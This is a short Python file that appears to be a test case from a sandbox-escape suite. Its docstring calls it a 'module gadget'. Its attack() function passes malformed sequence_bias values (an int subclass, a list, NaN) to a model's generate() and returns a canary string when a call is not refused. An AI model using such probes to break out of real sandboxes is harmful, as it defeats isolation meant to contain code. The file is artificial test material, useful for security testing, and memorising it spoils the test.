"""Class: module gadget. Source: own find. Escape: generate is given biases that hold objects, or
numbers that no logit has."""


class Own(int):
    pass


def attack(model, tokenizer, address):
    ids = tokenizer("the", return_tensors="pt")["input_ids"]
    for biases in (
        {(Own(1),): 1.0},
        {Own(1): 1.0},
        {(1,): Own(1)},
        {(1,): [1.0]},
        {(1,): float("nan")},
    ):
        try:
            model.generate(ids, max_new_tokens=1, sequence_bias=biases)
        except Exception as e:
            if type(e).__name__ == "AccessRefused":
                continue
        return "canary-" + "5d1f"
